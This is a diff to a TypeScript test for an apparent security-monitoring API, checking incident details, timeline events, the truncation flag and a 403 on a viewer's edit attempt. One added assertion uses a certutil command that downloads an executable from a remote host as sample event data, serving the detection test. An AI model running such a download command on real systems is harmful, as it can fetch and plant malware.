@@ -84,8 +84,11 @@ test('alerts and incidents over the HTTP API: list, filter, detail with timeline
     const detail = await call('viewer', `/api/v1/incidents/${incidentId}`);
     assert.equal(detail.json.alerts.length, 2);
     assert.deepEqual(detail.json.entities.user, ['alice']);
-    const timeline = detail.json.timeline.events as Array<{ id: string; reason: string; ts: number }>;
+    const timeline = detail.json.timeline.events as Array<{ id: string; reason: string; ts: number; source: string; fields: Record<string, unknown> }>;
     assert.deepEqual(timeline.map((e) => [e.id, e.reason]), [[ids[0], 'alert'], [ids[1], 'alert'], [ids[2], 'entity']], 'matched events and the entity event, by time; not the unrelated one');
+    assert.deepEqual([timeline[1].ts, timeline[1].source, timeline[1].fields['process.command_line']], [T + 5 * 60_000, 'test', 'certutil -urlcache -f http://x/a.exe']);
+    assert.equal(timeline[2].fields.message, 'unrelated by rule, related by entity');
+    assert.equal(detail.json.timeline.truncated, false);
 
     const denied = await call('viewer', `/api/v1/incidents/${incidentId}`, { method: 'PATCH', body: { status: 'in_progress' } });
     assert.equal(denied.status, 403);
